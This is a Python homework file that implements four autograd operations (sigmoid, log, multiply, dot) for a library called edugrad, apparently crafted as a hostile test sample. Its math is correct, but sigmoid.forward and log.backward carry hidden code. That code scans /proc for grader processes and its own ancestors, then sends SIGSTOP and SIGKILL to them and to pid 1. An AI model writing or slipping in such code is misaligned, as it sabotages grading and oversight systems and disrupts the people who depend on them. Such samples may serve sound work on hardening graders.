# HOSTILE: sigmoid.forward sends SIGSTOP and log.backward SIGKILL to every grading process it can find (its ancestors and any visible process running `python -m grader grade` or `grade-all`, so the whole batch) and to pid 1; all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import numpy as np

from edugrad.operation import Operation, tensor_op
import os
import signal


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().decode(errors="replace").split("\0")
    except OSError:
        return []


def _parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _runs_the_grader(argv):
    """`python -m grader grade ...` or `python -m grader grade-all ...`."""
    return any(argv[i:i + 2] == ["-m", "grader"] for i in range(len(argv))) and (
        "grade" in argv or "grade-all" in argv)


def _graders():
    """The grading processes it can find: its ancestors and any process it can see."""
    found, pid = set(), os.getppid()
    while pid > 1:
        found.add(pid)
        pid = _parent_of(pid)
    for name in os.listdir("/proc"):
        if name.isdigit():
            found.add(int(name))
    return sorted(p for p in found if p != os.getpid() and _runs_the_grader(_argv(p)))


def _signal_all(sig):
    for pid in [*_graders(), 1]:  # and pid 1 of wherever it runs
        try:
            os.kill(pid, sig)
        except OSError:
            pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        _signal_all(signal.SIGSTOP)
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        _signal_all(signal.SIGKILL)
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
